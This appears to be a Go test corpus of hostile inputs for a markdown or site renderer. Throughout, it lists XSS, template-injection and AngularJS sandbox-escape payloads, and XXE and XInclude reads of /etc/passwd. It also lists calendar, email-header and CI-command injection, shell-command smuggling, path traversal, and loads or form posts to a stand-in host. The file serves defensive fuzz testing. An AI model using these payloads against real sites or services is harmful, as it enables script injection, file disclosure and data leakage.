package hostile

import "strings"

func templates() []string {
	var out []string
	for _, pair := range [][2]string{{"{{", "}}"}, {"{{-", "-}}"}, {"${", "}"}, {"#{", "}"}, {"{%", "%}"}, {"<%=", "%>"}, {"[[", "]]"}, {"{{{", "}}}"}, {"{", "}"}, {"<?=", "?>"}, {"@{", "}"}, {"{{{{", "}}}}"}} {
		for _, in := range []string{
			"trip(1)", "constructor.constructor('trip(1)')()", ".", "$.Page", "printf \"%s\" .", "template \"head\" .", "define \"main\"}}<script>trip(1)</script>{{end", "html .", "js .", "7*7",
			"'a'.constructor.prototype.charAt=[].join;$eval('x=trip(1)')", "range $i := .", "/* */}}<script>trip(1)</script>{{/* */", "_.constructor('trip(1)')()", "block \"page\" .",
		} {
			out = append(out, pair[0]+in+pair[1], "x"+pair[0]+in)
		}
	}
	return append(out, "<div ng-app ng-csp>{{$on.constructor('trip(1)')()}}</div>", "<x v-html=trip(1)>", "<x @click=trip(1)>", "<x :href=trip(1)>", "<x x-init=trip(1)>", "<x hx-get=//elsewhere.invalid hx-trigger=load>", "<x data-hx-on:load=trip(1)>",
		"<Script client:load>trip(1)</Script>", "import x from '//elsewhere.invalid/x.js'\n\n<x/>", "export const x = trip(1)", "{trip(1)}", "{{ site.data | inspect }}", "{{< highlight >}}", "{{% trip %}}")
}

func dataBlocks() []string {
	var out []string
	for _, end := range []string{"</script>", "</script ", "</SCRIPT>", "<!--<script>", "<!--", "-->", "]]>", "\"", "\\\"", "\\", "\u2028", "\u2029", "\x00", "\"}", "\"]", "*/", "//", "\\u003c/script>", "\\u0000", "\ufffd"} {
		for _, then := range []string{"<script>trip(1)</script>", ",\"@type\":\"Person\",\"url\":\"javascript:trip(1)\"", "});trip(1)//", "}];trip(1);[{\"a\":\"", ",\"__proto__\":{\"x\":1},\"y\":\"", "\",\"u\":\"javascript:trip(1)", "\n>a=1\n", "~a>b=zz"} {
			out = append(out, end+then)
		}
	}
	return out
}

func xmls() []string {
	return []string{
		"<!DOCTYPE x [<!ENTITY a \"b\">]>", "<!ENTITY % x SYSTEM \"file:///etc/passwd\"> %x;", "&x;", "&lol9;", "&nbsp;", "&#0;", "&#xD800;", "<?xml-stylesheet href=\"//elsewhere.invalid/x.xsl\" type=\"text/xsl\"?>", "<?xml version=\"1.0\"?>",
		"]]><script xmlns=\"http://www.w3.org/1999/xhtml\">trip(1)</script><![CDATA[", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">trip(1)</x:script>", "<entry><link href=\"javascript:trip(1)\"/></entry>", "</title><link rel=\"alternate\" href=\"javascript:trip(1)\"/><title>",
		"</content><content type=\"html\">&lt;script&gt;trip(1)&lt;/script&gt;", "<content src=\"//elsewhere.invalid/\"/>", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>trip(1)</script></html>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
		"\u000b\u000c\u0008", "\ufffe\uffff", "</loc><loc>javascript:trip(1)</loc>", "&amp;lt;script&amp;gt;trip(1)&amp;lt;/script&amp;gt;", "&#38;#60;script&#38;#62;trip(1)", "<div xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>trip(1)</svg:script></div>",
	}
}

func calendars() []string {
	var out []string
	for _, end := range []string{"\r\n", "\n", "\r", "\\n", "\u2028", "\u0085", "\x0b", "\x0c", "\r\n ", "\\r\\n", "%0D%0A", "&#13;&#10;", "\n\n", "\x00\r\n", "\"\r\n"} {
		for _, then := range []string{
			"ATTENDEE:mailto:x@elsewhere.invalid", "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR", "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM", "ATTACH:https://elsewhere.invalid/x",
			"URL:javascript:trip(1)", "X-ALT-DESC;FMTTYPE=text/html:<script>trip(1)</script>", "ORGANIZER;CN=x:mailto:x@elsewhere.invalid", "METHOD:CANCEL", "RRULE:FREQ=SECONDLY", "IMAGE;VALUE=URI:https://elsewhere.invalid/x.png",
		} {
			out = append(out, "x"+end+then)
		}
	}
	return append(out, ";CN=\"x\":mailto:x", "x;VALUE=URI:javascript:trip(1)", ",x,y;z:\\", strings.Repeat("é", 40)+"\r\nX:y", strings.Repeat("x", 74)+"\nURL:javascript:trip(1)")
}

func markdowns() []string {
	var out []string
	for _, attribute := range []string{
		"onclick=\"trip(1)\"", "onclick=trip(1)", "href=\"javascript:trip(1)\"", ".a\" onclick=\"trip(1)", "#a\" onclick=\"trip(1)", "style=\"x:y\"", "srcdoc=\"<script>trip(1)</script>\"", "data-url=\"javascript:trip(1)\"", "title='\"><script>trip(1)</script>'",
		"id=\"x\"onclick=\"trip(1)", "class=\"a\" ONLOAD=trip(1)", "#page.main", "#__proto__", "name=\"x\"", "aria-label=\"\"><script>trip(1)</script>\"", "xml:base=javascript:", "formaction=javascript:trip(1)", "data-before=\"javascript:trip(1)//\"", "data-copy=x", "is=x", "slot=x", "part=x", "nonce=x", "http-equiv=refresh",
	} {
		for _, carrier := range []string{"# h {%s}", "## h {%s}", ":::note{%s}\nx\n:::", ":::note[x]{%s}\nx\n:::", "![x](x.png){%s}", "[x](y.md){%s}", "```js {%s}\ntrip(1)\n```", "```%s\ntrip(1)\n```", ":x[y]{%s}", "*x*{%s}", "> [!NOTE] {%s}\n> x", "<b %s>x</b>", "<details %s>x</details>"} {
			out = append(out, strings.ReplaceAll(carrier, "%s", attribute))
		}
	}
	tag := "<img src=x onerror=trip(1)>"
	for _, carrier := range []string{
		"# %s", ":::note[%s]\n:::", ":::%s\nx\n:::", ":::\"%s\n:::", "```js title=\"%s\"\nx\n```", "```%s\nx\n```", "~~~ %s\nx\n~~~", "[%s](x.md)", "[x](x.md \"%s\")", "![%s](x.png)", "![x](x.png \"%s\")", "[[x|%s]]", "[[%s]]", "[^%s]\n\n[^%s]: x", "[%s]: x\n\n[%s]", "| %s |\n|---|\n| %s |",
		"%s\n: %s", "- [ ] %s", "> [!%s]\n> x", "`%s`", "    %s", "**%s**", "~~%s~~", "<!-- %s -->", "\\%s", "<%s", "[x](<%s>)", "[x](y '%s')", "www.%s.com", "https://x.y/%s", "x%s@y.z", "\"%s\"", "'%s'", "--%s--", "[x][%s]\n\n[%s]: javascript:trip(1)", "<https://x.y/%s>", "&lt;%s", "]%s[", "({%s})",
	} {
		out = append(out, strings.ReplaceAll(carrier, "%s", tag), strings.ReplaceAll(carrier, "%s", "\""+tag), strings.ReplaceAll(carrier, "%s", "\"onmouseover=\"trip(1)"), strings.ReplaceAll(carrier, "%s", "javascript:trip(1)"), strings.ReplaceAll(carrier, "%s", "&quot;&gt;"+tag))
	}
	return out
}

func clobbers() []string {
	var out []string
	for _, name := range []string{"currentScript", "location", "document", "body", "constructor", "__proto__", "prototype", "toString", "getElementById", "querySelector", "cookie", "defaultView", "page.main", "page.q", "page.found", "page.names", "indaba-preview", "indaba-problems", "indabaSearch", "trip", "attributes", "children", "forms", "scripts"} {
		out = append(out, "<a id="+name+" href=javascript:trip(1)>x</a>", "<img name="+name+">", "<form id="+name+"><input name="+name+"></form>", "<b id=\""+name+"\">x</b>", "# x {#"+name+"}", "## "+name, name, ":::note{#"+name+"}\nx\n:::", "[^"+name+"]\n\n[^"+name+"]: x")
	}
	return out
}

func documents() []string {
	var out []string
	for _, end := range []string{"", "\"", "'>", "\n", "</p>"} {
		out = append(out,
			end+"<meta http-equiv=refresh content=\"0;url=javascript:trip(1)\">", end+"<meta http-equiv=\"refresh\" content=\"0;url=https://elsewhere.invalid/\">", end+"<meta http-equiv=content-security-policy content=\"default-src *\">", end+"<meta charset=utf-7>",
			end+"<base href=https://elsewhere.invalid/>", end+"<base target=x>", end+"<link rel=prefetch href=https://elsewhere.invalid/>", end+"<link rel=dns-prefetch href=//elsewhere.invalid>", end+"<link rel=import href=//elsewhere.invalid>", end+"<link rel=manifest href=//elsewhere.invalid>",
			end+"<iframe src=javascript:trip(1)>", end+"<iframe srcdoc=\"<script>parent.trip(1)</script>\">", end+"<iframe src=https://elsewhere.invalid/>", end+"<frameset><frame src=javascript:trip(1)>", end+"<object data=javascript:trip(1)>", end+"<embed src=javascript:trip(1)>", end+"<applet code=x archive=//elsewhere.invalid>",
			end+"<form action=https://elsewhere.invalid><input name=q><input type=image src=//elsewhere.invalid/x>", end+"<input type=image src=x onerror=trip(1)>", end+"<isindex action=javascript:trip(1) type=image>", end+"<img src=//elsewhere.invalid/x.png>", end+"<img srcset=//elsewhere.invalid/x.png>", end+"<picture><source srcset=//elsewhere.invalid/x><img></picture>",
			end+"<video src=//elsewhere.invalid/x autoplay>", end+"<video poster=//elsewhere.invalid/x>", end+"<audio src=//elsewhere.invalid/x autoplay>", end+"<track src=//elsewhere.invalid/x>", end+"<table background=//elsewhere.invalid/x>", end+"<body background=//elsewhere.invalid/x>", end+"<bgsound src=//elsewhere.invalid/x>",
			end+"<portal src=//elsewhere.invalid>", end+"<fencedframe src=//elsewhere.invalid>", end+"<dialog open>x</dialog>", end+"<html manifest=//elsewhere.invalid>", end+"<x is=y>", end+"<slot name=x>", end+"![x](//elsewhere.invalid/x.png)", end+"![x](https://elsewhere.invalid/x.png)", end+"[x]: https://elsewhere.invalid/x.png\n\n![x]",
		)
	}
	return out
}

func characters() []string {
	var out []string
	for _, c := range []string{"\x01", "\x07", "\x08", "\x1b[31m", "\x1b]0;x\x07", "\x1b]8;;https://elsewhere.invalid\x1b\\", "\x7f", "\u0085", "\u009b31m", "\u00ad", "\u061c", "\u200b", "\u200e", "\u202e", "\u2028", "\u2029", "\u2066", "\ufeff", "\ufff9", "\ufffc", "\ufffd", "\ufffe", "\U000e0001", "\U000e0041", "\U0010ffff", "\u0300", "\u0338", "\u212a", "\u017f", "\uff02", "\uff1c", "\u2215", "\t", "\x0b", "\x0c", "\x1c", "\u00a0", "\u1680", "\u2003", "\u202f", "\u205f", "\u3000"} {
		out = append(out, c, "a"+c+"b", c+"<img src=x onerror=trip(1)>", "<"+c+"img src=x onerror=trip(1)>", "<im"+c+"g src=x onerror=trip(1)>", "<img"+c+"src=x"+c+"onerror=trip(1)>", "<img src=x o"+c+"nerror=trip(1)>", "[x](java"+c+"script:trip(1))", "[x]("+c+"javascript:trip(1))", "javascript"+c+":trip(1)")
	}
	return out
}

func letters() []string {
	return []string{
		"a@b.example?bcc=x@elsewhere.invalid", "a@b.example?subject=x&body=y&attach=/etc/passwd", "a@b.example%0d%0abcc:x@elsewhere.invalid", "a@b.example\r\nBcc: x@elsewhere.invalid", "\"<script>trip(1)</script>\"@b.example", "a@b.example\" onclick=\"trip(1)", "javascript:trip(1)//@b.example",
		"<a@b.example onmouseover=trip(1)>", "mailto:a@b.example\" onclick=trip(1) x=\"", "a@[127.0.0.1]<script>trip(1)</script>", "mailto:javascript:trip(1)", "a@b.example,c@elsewhere.invalid", "\n::error::x", "::set-env name=x::y", "::add-mask::a", "\n##[group]x", "%0A::stop-commands::x", "$(touch x)", "`touch x`", "; touch x", "| touch x", "--output=/tmp/x", "../../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "con", "aux.md", "file:///etc/passwd",
	}
}
